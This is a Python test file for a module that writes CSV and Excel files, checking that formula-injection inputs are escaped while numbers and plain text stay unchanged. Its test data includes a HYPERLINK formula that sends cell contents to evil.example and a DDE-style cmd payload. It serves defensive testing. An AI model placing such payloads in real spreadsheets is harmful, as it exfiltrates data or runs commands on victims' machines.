"""core.spreadsheets: the one way CSV and Excel files are written (issue 10, defect 6)."""

from __future__ import annotations

import io

import pytest
from openpyxl import Workbook, load_workbook

from passgenau.apps.core.spreadsheets import (
    Formula,
    csv_bytes,
    read_cell,
    safe_cell,
    sheet_append,
)

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'


@pytest.mark.parametrize(
    "typed", [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
)
def test_text_a_spreadsheet_would_run_is_neutralised_and_read_back(typed):
    assert safe_cell(typed) == "'" + typed
    assert read_cell(safe_cell(typed)) == typed


@pytest.mark.parametrize("kept", ["-1.234,56", "+49", "-5", "1e-3", "Kiel", "", "'quoted"])
def test_numbers_and_plain_text_stay(kept):
    assert safe_cell(kept) == kept
    assert read_cell(kept) == kept


def test_values_that_are_no_text_and_own_formulas_stay():
    assert safe_cell(-3) == -3
    assert safe_cell(None) is None
    assert safe_cell(Formula("=SUM(A1:A3)")) == "=SUM(A1:A3)"


def test_csv_and_excel_hold_the_formula_as_text():
    text = csv_bytes([["name"], [HYPERLINK]]).decode("utf-8")
    assert text.startswith("\ufeff")
    assert '"\'=HYPERLINK(""http://evil.example/?d=""&A1,""click"")"' in text
    book = Workbook()
    sheet_append(book.active, [HYPERLINK, Formula("=1+1")])
    out = io.BytesIO()
    book.save(out)
    cells = next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())
    assert (cells[0].data_type, cells[0].value) == ("s", "'" + HYPERLINK)
    assert (cells[1].data_type, cells[1].value) == ("f", "=1+1")
